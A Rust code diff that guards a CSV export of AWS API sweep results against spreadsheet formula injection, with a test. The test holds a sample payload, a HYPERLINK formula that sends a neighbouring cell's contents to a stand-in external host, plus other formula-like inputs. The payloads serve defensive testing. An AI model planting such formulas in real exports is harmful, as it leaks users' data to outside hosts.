@@ -141,15 +141,30 @@ pub const CSV_HEADER: &[&str] = &[
     "error",
 ];
 
+/// A cell a spreadsheet will not run: text that starts like a formula (`=`, `+`, `-`, `@`, tab,
+/// carriage return) gets a leading `'`, as OWASP advises against CSV injection. API and stack
+/// names and AWS's messages are anyone's text; the counts Gatehouse writes never start so.
+fn inert(cell: &str) -> std::borrow::Cow<'_, str> {
+    match cell.chars().next() {
+        Some('=' | '+' | '-' | '@' | '\t' | '\r') => format!("'{cell}").into(),
+        _ => cell.into(),
+    }
+}
+
 /// The sweep as CSV: one line per API, then one per region that could not be read (its error in
-/// the last column).
+/// the last column). Every cell is made inert (see [`inert`]).
 pub fn csv(report: &SweepReport) -> Result<String> {
     let mut w = ::csv::Writer::from_writer(Vec::new());
     let io = |e: ::csv::Error| Error::Internal(format!("CSV: {e}"));
     w.write_record(CSV_HEADER).map_err(io)?;
+    let mut write = |cells: [&str; 12]| {
+        let cells = cells.map(inert);
+        w.write_record(cells.iter().map(|c| c.as_bytes()))
+            .map_err(io)
+    };
     for a in &report.apis {
         let r = &a.row;
-        w.write_record([
+        write([
             profile_name(&r.profile),
             &r.account,
             &r.region,
@@ -162,11 +177,10 @@ pub fn csv(report: &SweepReport) -> Result<String> {
             &r.protected.to_string(),
             &r.owner(),
             "",
-        ])
-        .map_err(io)?;
+        ])?;
     }
     for e in &report.errors {
-        w.write_record([
+        write([
             profile_name(&e.profile),
             e.account.as_deref().unwrap_or(""),
             e.region.as_deref().unwrap_or(""),
@@ -179,8 +193,7 @@ pub fn csv(report: &SweepReport) -> Result<String> {
             "",
             "",
             &format!("{}: {}", e.code, e.message),
-        ])
-        .map_err(io)?;
+        ])?;
     }
     let bytes = w
         .into_inner()
@@ -253,5 +266,32 @@ mod tests {
         assert!(lines[3].ends_with(
             "UnrecognizedClientException: The security token included in the request is invalid."
         ));
+    }
+
+    #[test]
+    fn csv_cells_that_start_like_a_formula_are_written_inert() {
+        let mut r = report();
+        let formula = r#"=HYPERLINK("https://x.example/?"&B2,"Pets")"#;
+        r.apis[0].row.name = formula.into();
+        r.apis[1].row.name = "+1 open".into();
+        r.errors[0].code = "@SUM(A1)".into();
+        let text = csv(&r).unwrap();
+        let mut rows = ::csv::Reader::from_reader(text.as_bytes());
+        let rows: Vec<::csv::StringRecord> = rows.records().map(Result::unwrap).collect();
+        assert_eq!(&rows[0][5], format!("'{formula}"));
+        assert_eq!(&rows[1][5], "'+1 open");
+        assert!(rows[2][11].starts_with("'@SUM(A1): "), "{:?}", &rows[2]);
+        for (cell, shown) in [
+            ("-2", "'-2"),
+            ("\tx", "'\tx"),
+            ("\rx", "'\rx"),
+            ("a=b", "a=b"),
+            ("3", "3"),
+            ("", ""),
+        ] {
+            assert_eq!(inert(cell), shown);
+        }
+        // The counts stay numbers.
+        assert_eq!(&rows[1][6], "3");
     }
 }
